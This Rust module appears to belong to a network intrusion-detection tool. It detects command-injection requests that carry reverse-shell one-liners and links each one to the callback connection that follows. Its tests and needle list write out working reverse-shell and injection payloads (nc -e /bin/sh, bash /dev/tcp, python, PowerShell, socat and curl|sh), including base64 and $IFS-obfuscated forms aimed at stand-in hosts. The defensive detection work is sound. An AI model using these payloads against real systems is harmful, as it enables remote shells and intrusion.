//! Command injection that asks a server to call back: a request whose parameters or body
//! carry a reverse-shell one-liner naming an address and port (`nc 203.0.113.5 4444 -e
//! /bin/sh`, `bash -i >& /dev/tcp/…`, python's `socket.connect`, PowerShell's
//! `TCPClient`), plain, URL-encoded, base64-wrapped, or broken up with `$IFS` and quotes.
//! The pipeline's reader looks at requests to web ports once each (a prefilter first),
//! and hands every shard the lead, so that the session the target then opens to the
//! named end is linked to the request whatever the thread count.

use crate::decode::{Transport, TransportSegment};
use crate::time::{Span, Timestamp};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use base64::Engine;
use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, OnceLock};

/// A request that carries a callback: who sent it to whom, and where it asks the target
/// to connect.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Lead {
    pub at: Timestamp,
    /// The sender of the request (the attacker) and the target it went to.
    pub attacker: SocketAddr,
    pub target: SocketAddr,
    /// The end the payload names: the target is expected to connect there.
    pub callback: SocketAddr,
    /// The request line's URL, when the segment held it.
    pub url: Option<String>,
    /// The one-liner as decoded, cut to `QUOTE_MAX` bytes.
    pub payload: String,
    /// How it was wrapped: `plain`, `url`, `base64`.
    pub encoding: &'static str,
}

/// How long after a request a connection to the end it names counts as its callback.
pub const CALLBACK_WINDOW: Span = Span::from_secs(600);
/// The most of a payload quoted in an alert.
pub const QUOTE_MAX: usize = 256;

/// Ports where web applications listen, whose requests are read for payloads.
const WEB_PORTS: &[u16] = &[80, 81, 3000, 5000, 8000, 8008, 8080, 8081, 8088, 8888, 9000];

/// Words that start every payload form this reads, in any encoding it decodes (matched
/// without case), or encoded separators: a request with none of them is not read further.
const NEEDLES: &[&str] = &[
    "/dev/tcp",
    "/dev/udp",
    "%2fdev%2f",
    "nc ",
    "nc+",
    "nc%20",
    "ncat",
    "netcat",
    "socat",
    "connect(",
    "connect%28",
    "tcpclient",
    "fsockopen",
    "tcpsocket",
    "s_client",
    "base64",
    // PowerShell's -enc/-EncodedCommand (not `Accept-Encoding`, in every request).
    "-enc ",
    "-enc+",
    "-enc%20",
    "-encodedcommand",
    "powershell",
    "ifs",
    "/bin/sh",
    "%2fbin%2fsh",
    "bash",
    "|sh",
    "%7csh",
    // Fully percent-encoded payloads: the separators a one-liner cannot do without.
    "%2f",
    "%3b",
    "%7c",
    "%3e",
];

fn needles() -> &'static AhoCorasick {
    static N: OnceLock<AhoCorasick> = OnceLock::new();
    N.get_or_init(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .build(NEEDLES)
            .expect("static needles compile")
    })
}

/// The lead a segment carries: a client's bytes to a web port (or any request that
/// starts with an HTTP method) holding a callback payload.
pub fn lead(seg: &TransportSegment<'_>) -> Option<Lead> {
    if seg.transport != Transport::Tcp || seg.payload.len() < 8 {
        return None;
    }
    // A payload is typed text in every encoding read here (plain, URL, base64, a form
    // part): a segment that opens with binary (an upload's middle, a compressed body) is
    // skipped before the scan, which is what keeps bulk traffic to web ports cheap.
    if !opens_as_text(seg.payload) {
        return None;
    }
    let to_web =
        WEB_PORTS.contains(&seg.dst_port) || crate::protocols::web::request(seg.payload, 0).is_some();
    if !to_web || !needles().is_match(seg.payload) {
        return None;
    }
    let found = find(seg.payload)?;
    let url = request_url(seg.payload);
    Some(Lead {
        at: seg.ts,
        attacker: SocketAddr::new(seg.src, seg.src_port),
        target: SocketAddr::new(seg.dst, seg.dst_port),
        callback: found.callback,
        url,
        payload: quote(&found.text),
        encoding: found.encoding,
    })
}

/// Whether the first bytes of `b` are printable ASCII or line whitespace.
fn opens_as_text(b: &[u8]) -> bool {
    b.iter().take(32).all(|&c| (0x20..0x7f).contains(&c) || matches!(c, b'\r' | b'\n' | b'\t'))
}

/// The URL of a request line at the start of `b`.
fn request_url(b: &[u8]) -> Option<String> {
    let line = crate::protocols::first_line(b, 4096)?;
    let mut words = line.split(|&c| c == b' ');
    let _method = words.next()?;
    let url = words.next()?;
    Some(String::from_utf8_lossy(&url[..url.len().min(QUOTE_MAX)]).into_owned())
}

fn quote(s: &str) -> String {
    head(s, QUOTE_MAX).to_string()
}

/// The first `max` bytes of `s` at most, cut at a character boundary (decoded payloads are
/// lossy UTF-8: a byte count can land inside a replacement character).
pub(crate) fn head(s: &str, max: usize) -> &str {
    let mut end = s.len().min(max);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// What `find` found: the callback and the decoded text that named it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    pub callback: SocketAddr,
    pub text: String,
    pub encoding: &'static str,
}

/// Looks for a callback one-liner in raw request bytes: as they are, URL-decoded, and
/// inside base64 blobs of either (PowerShell's `-enc` is UTF-16).
pub fn find(raw: &[u8]) -> Option<Found> {
    let plain = String::from_utf8_lossy(raw);
    if let Some(c) = callback_in(&plain) {
        return Some(Found { callback: c, text: excerpt(&plain, c), encoding: "plain" });
    }
    let decoded = url_decode(raw);
    let decoded = String::from_utf8_lossy(&decoded);
    if let Some(c) = callback_in(&decoded) {
        return Some(Found { callback: c, text: excerpt(&decoded, c), encoding: "url" });
    }
    for blob in base64_blobs(&decoded) {
        let Ok(bytes) = base64::engine::general_purpose::STANDARD.decode(blob) else { continue };
        let text = if bytes.len() >= 4 && bytes[1] == 0 && bytes[3] == 0 {
            // UTF-16LE, as PowerShell's -EncodedCommand takes it.
            String::from_utf16_lossy(
                &bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect::<Vec<_>>(),
            )
        } else {
            String::from_utf8_lossy(&bytes).into_owned()
        };
        if let Some(c) = callback_in(&text) {
            return Some(Found { callback: c, text: excerpt(&text, c), encoding: "base64" });
        }
    }
    None
}

/// The part of `text` around the callback's address, for the alert: from the start of
/// the form value (or line) that holds it to its end.
fn excerpt(text: &str, c: SocketAddr) -> String {
    let ip = c.ip().to_string();
    let at = text.find(&ip).unwrap_or(0);
    let line_start = text[..at].rfind(['\n', '\r']).map_or(0, |i| i + 1);
    let value_start = text[..at].rfind('=').map_or(0, |i| i + 1);
    let mut start = line_start.max(value_start).max(at.saturating_sub(160));
    while !text.is_char_boundary(start) {
        start += 1;
    }
    // A value ends at the next `&name=` (another form field) or line end.
    let bytes = text.as_bytes();
    let mut end = text.len();
    for (i, &b) in bytes.iter().enumerate().skip(at) {
        if matches!(b, b'\n' | b'\r') {
            end = i;
            break;
        }
        if b == b'&' {
            let name = bytes[i + 1..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
            if name > 0 && bytes.get(i + 1 + name) == Some(&b'=') {
                end = i;
                break;
            }
        }
    }
    text[start..end.max(start)].trim().to_string()
}

/// `%XX` and `+` decoded (twice: payloads are often encoded again by the form).
pub(crate) fn url_decode(raw: &[u8]) -> Vec<u8> {
    fn once(b: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(b.len());
        let mut i = 0;
        while i < b.len() {
            match b[i] {
                b'%' if i + 2 < b.len() => {
                    let hex = std::str::from_utf8(&b[i + 1..i + 3])
                        .ok()
                        .and_then(|h| u8::from_str_radix(h, 16).ok());
                    match hex {
                        Some(v) => {
                            out.push(v);
                            i += 3;
                            continue;
                        }
                        None => out.push(b'%'),
                    }
                }
                b'+' => out.push(b' '),
                c => out.push(c),
            }
            i += 1;
        }
        out
    }
    once(&once(raw))
}

/// `url_decode`, borrowing when there is nothing to decode (most values).
pub(crate) fn url_decoded(raw: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    if memchr::memchr2(b'%', b'+', raw).is_some() {
        std::borrow::Cow::Owned(url_decode(raw))
    } else {
        std::borrow::Cow::Borrowed(raw)
    }
}

/// Runs of base64 (16 characters at least) that may hold a payload.
fn base64_blobs(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=')))
        .filter(|w| w.len() >= 16 && w.len() % 4 == 0)
}

/// Undoes the usual obfuscations: `$IFS`/`${IFS}` for spaces, quotes and backslashes
/// inside words (`w'h'o'am'i`, `b\ash`).
pub(crate) fn normalise(text: &str) -> String {
    let spaced = text.replace("${IFS}", " ").replace("$IFS$9", " ").replace("$IFS", " ");
    spaced.chars().filter(|c| !matches!(c, '\'' | '"' | '\\' | '`')).collect()
}

/// The callback a one-liner in `text` names.
fn callback_in(text: &str) -> Option<SocketAddr> {
    let t = normalise(text);
    let lower = t.to_ascii_lowercase();
    // bash and friends: /dev/tcp/HOST/PORT
    for dev in ["/dev/tcp/", "/dev/udp/"] {
        if let Some(i) = lower.find(dev) {
            let rest = &t[i + dev.len()..];
            let mut parts = rest.splitn(2, '/');
            let (host, port) = (parts.next()?, parts.next()?);
            if let Some(a) = addr(host, leading_number(port)?) {
                return Some(a);
            }
        }
    }
    // socat tcp:HOST:PORT, openssl s_client -connect HOST:PORT
    for key in ["tcp:", "tcp4:", "tcp-connect:", "openssl-connect:", "openssl:", "-connect "] {
        for (i, _) in lower.match_indices(key) {
            let rest = &t[i + key.len()..];
            let end = rest.find([' ', ',', '\'', '"', '&', ';', '|']).unwrap_or(rest.len());
            if let Some(a) = host_port(&rest[..end]) {
                if lower.contains("socat") || lower.contains("s_client") || lower.contains("openssl") {
                    return Some(a);
                }
            }
        }
    }
    // nc / ncat / netcat HOST PORT (with -e/-c, or piped into a shell)
    for word in ["nc ", "ncat ", "netcat ", "nc.traditional ", "nc.openbsd "] {
        for (i, _) in lower.match_indices(word) {
            if i > 0 && lower.as_bytes()[i - 1].is_ascii_alphanumeric() {
                continue;
            }
            let args: Vec<&str> = t[i + word.len()..].split_whitespace().take(8).collect();
            let ip = args.iter().position(|a| a.parse::<IpAddr>().is_ok());
            if let Some(k) = ip {
                if let Some(port) = args.get(k + 1).and_then(|p| leading_number(p)) {
                    if let Some(a) = addr(args[k], port) {
                        return Some(a);
                    }
                }
            }
        }
    }
    // Interpreters: connect(("HOST",PORT)), fsockopen("HOST",PORT), TCPClient("HOST",PORT),
    // TCPSocket.new("HOST",PORT), inet_aton("HOST") with $p=PORT.
    for key in ["connect((", "fsockopen(", "tcpclient(", "tcpsocket.new(", "tcpsocket.open(", "socket("] {
        for (i, _) in lower.match_indices(key) {
            let rest = &t[i + key.len()..];
            let inside = head(rest, rest.find(')').unwrap_or(rest.len()).min(80));
            let mut parts = inside.split(',').map(str::trim);
            let (host, port) = (parts.next()?, parts.next());
            if let Some(a) = port.and_then(leading_number).and_then(|p| addr(host, p)) {
                return Some(a);
            }
        }
    }
    if let Some(i) = lower.find("inet_aton(") {
        let rest = &t[i + 10..];
        let host = rest.split(')').next()?.trim();
        let port = lower.find("$p=").and_then(|j| leading_number(&t[j + 3..]));
        if let Some(a) = port.and_then(|p| addr(host, p)) {
            return Some(a);
        }
    }
    // curl/wget from HOST:PORT piped into a shell.
    if (lower.contains("|sh")
        || lower.contains("| sh")
        || lower.contains("|bash")
        || lower.contains("| bash"))
        && (lower.contains("curl") || lower.contains("wget"))
    {
        if let Some(i) = lower.find("http://") {
            let rest = &t[i + 7..];
            let end = rest.find(['/', ' ', '|']).unwrap_or(rest.len());
            if let Some(a) = host_port(&rest[..end]) {
                return Some(a);
            }
        }
    }
    None
}

fn leading_number(s: &str) -> Option<u16> {
    let digits: String = s.chars().take_while(char::is_ascii_digit).collect();
    digits.parse().ok().filter(|p| *p != 0)
}

fn addr(host: &str, port: u16) -> Option<SocketAddr> {
    let ip: IpAddr = host.trim_matches(|c: char| c == '[' || c == ']' || c.is_whitespace()).parse().ok()?;
    Some(SocketAddr::new(ip, port))
}

/// `HOST:PORT` (an IPv6 host in brackets).
fn host_port(s: &str) -> Option<SocketAddr> {
    let (host, port) = s.rsplit_once(':')?;
    addr(host, leading_number(port)?)
}

/// Leads learned, for the sessions that may answer them: bounded, oldest first out.
#[derive(Debug, Default)]
pub struct Leads {
    leads: std::collections::VecDeque<Arc<Lead>>,
}

/// Leads kept at most.
const MAX_LEADS: usize = 4096;

impl Leads {
    pub fn learn(&mut self, lead: Arc<Lead>) {
        if self.leads.len() >= MAX_LEADS {
            self.leads.pop_front();
        }
        self.leads.push_back(lead);
    }

    /// The newest lead whose target is `from` calling `to` within the window before `at`.
    pub fn callback(&self, from: IpAddr, to: SocketAddr, at: Timestamp) -> Option<Arc<Lead>> {
        self.leads
            .iter()
            .rev()
            .find(|l| l.target.ip() == from && l.callback == to && l.at <= at && at - l.at <= CALLBACK_WINDOW)
            .cloned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cb(s: &str) -> Option<String> {
        find(s.as_bytes()).map(|f| f.callback.to_string())
    }

    #[test]
    fn one_liners_in_their_wrappings_name_their_callback() {
        assert_eq!(
            cb("ip=127.0.0.1;nc 198.19.0.66 4444 -e /bin/sh&Submit=Submit").as_deref(),
            Some("198.19.0.66:4444")
        );
        assert_eq!(
            cb("host=127.0.0.1%3Bbash%20-c%20%27bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.19.0.66%2F9001%200%3E%261%27").as_deref(),
            Some("198.19.0.66:9001")
        );
        let b64 = base64::engine::general_purpose::STANDARD
            .encode("python3 -c 'import socket;s=socket.socket();s.connect((\"198.19.0.66\",443))'");
        assert_eq!(
            cb(&format!("host=1.1.1.1;echo {b64}|base64 -d|bash")).as_deref(),
            Some("198.19.0.66:443")
        );
        assert_eq!(cb("x=;{nc,198.19.0.66,1234}").as_deref(), None, "brace expansion is not read");
        assert_eq!(
            cb("c=n'c'$IFS'198.19.0.66'${IFS}4445$IFS-e$IFS/bin/sh").as_deref(),
            Some("198.19.0.66:4445")
        );
        assert_eq!(cb("socat tcp:203.0.113.9:8443 exec:sh").as_deref(), Some("203.0.113.9:8443"));
        assert_eq!(
            cb("$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',443)").as_deref(),
            Some("203.0.113.7:443")
        );
        let ps: Vec<u8> = "IEX (New-Object Net.Sockets.TCPClient(\"203.0.113.8\",8080))"
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes())
            .collect();
        let enc = base64::engine::general_purpose::STANDARD.encode(ps);
        assert_eq!(cb(&format!("cmd=powershell -enc {enc}")).as_deref(), Some("203.0.113.8:8080"));
        assert_eq!(cb("curl -s http://203.0.113.4:8000/x.sh|sh").as_deref(), Some("203.0.113.4:8000"));
        assert_eq!(
            cb("php -r '$s=fsockopen(\"[2001:db8::5]\",4444);'").as_deref(),
            Some("[2001:db8::5]:4444")
        );
    }

    #[test]
    fn ordinary_requests_name_no_callback() {
        for s in [
            "url=http%3A%2F%2F198.19.0.66%3A4444%2Fhook&event=push",
            "{\"proxy\":\"198.19.0.66:3128\",\"timeout\":5}",
            "{\"check\":\"tcp\",\"host\":\"198.19.0.66\",\"port\":4444}",
            "GET /search?q=how+to+use+nc+to+test+a+port HTTP/1.1\r\nUser-Agent: curl/7.88.1\r\n\r\n",
            "q=bash+tutorial&page=2",
        ] {
            assert_eq!(cb(s), None, "{s}");
        }
    }

    #[test]
    fn garbage_is_read_without_panics() {
        let mut x = 7u32;
        let mut noise = Vec::new();
        for _ in 0..2000 {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            noise.push(b"%2f/dev/tcp/nc 1.2.3.4 :(,\"'$IFS base64"[x as usize % 36]);
        }
        for n in 0..noise.len() {
            let _ = find(&noise[..n]);
        }
    }
}
